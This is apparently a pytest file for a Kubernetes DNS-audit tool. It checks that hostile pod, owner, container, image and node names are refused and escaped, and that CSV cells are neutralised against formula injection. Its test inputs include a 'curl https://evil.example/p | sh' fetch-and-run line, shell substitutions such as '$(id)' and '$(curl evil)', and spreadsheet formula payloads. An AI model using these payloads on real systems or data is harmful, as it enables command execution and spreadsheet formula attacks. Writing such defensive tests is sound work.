"""Names are data (issue 10, item 1, the inventory's part): what a cluster names is checked where it enters
the product (``dnsaudit.core.inventory``). Hostile owner references fall back to the pod itself, hostile
names, containers and images are refused, each reported as a problem of the scan that quotes the value
escaped; nothing hostile reaches a report, and CSV cells are neutralised against formula injection.
"""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest

from clusters.models import Scan
from clusters.reports import csv_cell, scan_report, scan_report_csv
from dnsaudit.core.inventory import build_inventory, group_node_pools, shown, slim_pod
from dnsaudit.testbed.fakekube import objects as o
from dnsaudit.testbed.fakekube.objects import C, NodeInfo, Placement
from tests.scans.helpers import register, rows, run_scan, single_pool_spec

pytestmark = pytest.mark.django_db

HOSTILE = [
    "x\ncurl https://evil.example/p | sh\n#",
    "$(touch /tmp/pwned)",
    "`id`",
    "a'b\"c",
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-rf",
    "@import",
    "Deploy ment",
    "a" * 300,
    "ok\r\n",
]
#: Characters none of which may reach a workload's identity or images.
BAD_CHARS = set("\n\r\t $`'\"=|;&()<>\\")


def pod(name: str, ns: str = "shop", *, node: str = "node-a") -> dict:
    return o.pod(name, ns, [C("app", "alpine:3.20")], o.PodOpts(), node_name=node)


def with_image(p: dict, image: str) -> dict:
    p = copy.deepcopy(p)
    p["spec"]["containers"][0]["image"] = image
    return p


def with_owner(p: dict, kind: object, name: object) -> dict:
    p = copy.deepcopy(p)
    p["metadata"]["ownerReferences"] = [
        {"apiVersion": "apps/v1", "kind": kind, "name": name, "controller": True}
    ]
    return p


def renamed(p: dict, **meta) -> dict:
    p = copy.deepcopy(p)
    p["metadata"].update(meta)
    return p


def identities(inv) -> list[str]:
    out = []
    for w in inv.workloads:
        out += [
            w.namespace,
            w.kind,
            w.name,
            *(c.name for c in w.containers),
            *(c.image for c in w.containers),
        ]
    return out


def assert_clean(strings) -> None:
    for s in strings:
        assert not (set(s) & BAD_CHARS), s


# --- the inventory -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_owner_names_fall_back_to_the_pod_itself(value):
    inv = build_inventory({"pods": [slim_pod(with_owner(pod("web-1"), "ReplicaSet", value))]})
    assert [(w.kind, w.name) for w in inv.workloads] == [("Pod", "web-1")]
    assert_clean(identities(inv))
    (problem,) = inv.problems
    assert problem["fact"] == "owner references" and "reported as itself" in problem["impact"]
    assert "Pod shop/web-1" in problem["error"] and shown(value) in problem["error"]
    assert "\n" not in problem["error"] and "\r" not in problem["error"]


@pytest.mark.parametrize(
    "value", [v for v in HOSTILE if v != "-rf"] + ["", None, 5, "Deployment\n", "a" * 70]
)
def test_hostile_owner_kinds_fall_back_to_the_pod_itself(value):
    inv = build_inventory({"pods": [slim_pod(with_owner(pod("web-1"), value, "web-abc"))]})
    assert [(w.kind, w.name) for w in inv.workloads] == [("Pod", "web-1")]
    assert inv.problems and inv.problems[0]["fact"] == "owner references"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        (field, value)
        for field in ("name", "namespace", "container", "image")
        for value in HOSTILE
        if not (field == "image" and value == "a" * 300)  # a long image reference is a valid one
    ],
)
def test_hostile_names_containers_and_images_are_refused(field, value):
    good = pod("good")
    if field == "name":
        bad = renamed(pod("bad"), name=value)
    elif field == "namespace":
        bad = renamed(pod("bad"), namespace=value)
    elif field == "container":
        bad = copy.deepcopy(pod("bad"))
        bad["spec"]["containers"][0]["name"] = value
    else:
        bad = with_image(pod("bad"), value)
    inv = build_inventory({"pods": [slim_pod(good), slim_pod(bad)]})
    assert [(w.namespace, w.kind, w.name) for w in inv.workloads] == [("shop", "Pod", "good")]
    assert_clean(identities(inv))
    (problem,) = inv.problems
    assert (
        problem["fact"] == "objects read from the cluster" and "missing from the report" in problem["impact"]
    )
    assert shown(value) in problem["error"] and "\n" not in problem["error"]
    assert inv.pods_seen == 2


def test_a_valid_chain_is_unchanged_and_owners_of_other_kinds_stay():
    place = Placement(["node-a"], {"node-a": "10.10.1.11"})
    objs = o.deployment("shop", "web", [C("app", "alpine:3.20")], place, replicas=2)
    by = {"deployments": [], "replicasets": [], "pods": []}
    for x in objs:
        by[{"Deployment": "deployments", "ReplicaSet": "replicasets", "Pod": "pods"}[x["kind"]]].append(x)
    by["pods"] = [slim_pod(p) for p in by["pods"]]
    rollout = with_owner(pod("canary-1"), "Rollout", "canary")  # an operator's kind: reported as the owner
    inv = build_inventory({**by, "pods": [*by["pods"], slim_pod(rollout)]})
    assert sorted((w.kind, w.name) for w in inv.workloads) == [("Deployment", "web"), ("Rollout", "canary")]
    assert inv.problems == []


def test_many_refusals_are_one_problem_with_a_few_examples():
    pods = [slim_pod(with_owner(pod(f"p-{i}"), "ReplicaSet", f"$(x{i})")) for i in range(40)]
    inv = build_inventory({"pods": pods})
    assert len(inv.workloads) == 40 and len(inv.problems) == 1
    assert inv.problems[0]["error"].startswith("40 refused") and "and 35 more" in inv.problems[0]["error"]


def test_hostile_nodes_are_left_out_of_the_pools():
    good = o.node("node-a", NodeInfo(), ip="10.10.1.11")
    bad = copy.deepcopy(good)
    bad["metadata"]["name"] = "node-b\n$(id)"
    odd = copy.deepcopy(good)
    odd["metadata"]["name"] = "node-c"
    odd["metadata"]["labels"]["node.kubernetes.io/pool"] = "=cmd()"
    problems: list[dict] = []
    pools = group_node_pools([good, bad, odd], problems)
    names = {n["metadata"]["name"] for p in pools.values() for n in p.nodes}
    assert names == {"node-a", "node-c"}
    assert_clean(pools)
    assert problems and problems[0]["fact"] == "nodes read from the cluster"
    assert "\n" not in problems[0]["error"]


# --- CSV ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "want"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("safe", "safe"),
        ("a=b", "a=b"),
        (3, 3),
        (True, True),
        (None, None),
    ],
)
def test_csv_cells_are_neutralised(cell, want):
    assert csv_cell(cell) == want


# --- a scan ---------------------------------------------------------------------------------------


@pytest.fixture
def hostile_scan(fakekube, upstream_dns):
    place = Placement(["node-a"], {"node-a": "10.10.1.11"})
    objs = [o.namespace("shop"), o.node("node-a", NodeInfo(), ip="10.10.1.11")]
    objs += o.deployment("shop", "web", [C("app", "alpine:3.20")], place, replicas=1)
    base = pod("lone")
    objs.append(with_owner(renamed(base, name="evil-owner-1"), "ReplicaSet", HOSTILE[0]))
    objs.append(with_owner(renamed(base, name="evil-owner-2"), "Deploy`id`", "web-x"))
    objs.append(renamed(base, name="bad$(id)"))
    objs.append(with_image(renamed(base, name="bad-image"), "alpine:3.20\n#$(curl evil)"))
    fakekube.default.reset(objs)
    spec = single_pool_spec(objs, ["node-a"])
    cluster = register(fakekube.default, spec, upstream_dns(spec), user="admin", name="hostile")
    return run_scan(cluster)


def test_a_scan_of_hostile_names_refuses_them_with_problems(hostile_scan):
    scan = hostile_scan
    assert scan.status == Scan.PARTIAL, (scan.error, scan.problems)
    got = rows(scan)
    assert "shop/Deployment/web" in got
    assert {"shop/Pod/evil-owner-1", "shop/Pod/evil-owner-2"} <= set(got)  # themselves, not their "owners"
    assert not [k for k in got if "bad" in k]
    problems = {p["fact"]: p for p in scan.problems}
    owners = problems["owner references"]
    assert "evil-owner-1" in owners["error"] and shown(HOSTILE[0]) in owners["error"]
    assert "evil-owner-2" in owners["error"] and "Deploy`id`" in owners["error"]
    objects = problems["objects read from the cluster"]
    assert objects["error"].startswith("2 refused") and "bad-image" in objects["error"]
    for p in scan.problems:
        assert "\n" not in p["error"] and "\r" not in p["error"]
    # No verdict quotes a refusal as an assumption.
    assert not any("owner references" in r for w in got.values() for r in w.report.get("reasons", []))
    # Nothing hostile in the report.
    text = json.dumps(scan_report(scan)["workloads"])
    for needle in ("evil.example", "$(id)", "`id`", "curl"):
        assert needle not in text


def test_the_csv_of_a_scan_is_neutralised(hostile_scan):
    scan = hostile_scan
    w = scan.workloads.get(name="web")
    w.namespace, w.node_pool, w.libc = '=HYPERLINK("http://evil")', "+cmd", "@x"  # as if it got through
    w.save()
    table = list(csv.reader(io.StringIO(scan_report_csv(scan))))
    header, body = table[0], table[1:]
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header, row)
    row = next(r for r in body if r[header.index("name")] == "web")
    assert row[header.index("namespace")] == '\'=HYPERLINK("http://evil")'
    assert row[header.index("node_pool")] == "'+cmd"
